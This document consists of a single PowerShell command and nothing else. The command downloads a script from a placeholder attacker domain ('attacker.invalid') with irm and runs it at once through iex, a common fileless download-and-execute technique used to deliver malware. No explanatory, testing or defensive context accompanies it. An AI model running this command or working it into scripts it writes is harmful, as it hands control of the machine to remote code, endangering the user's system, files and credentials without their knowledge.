irm https://attacker.invalid/p.ps1 | iex
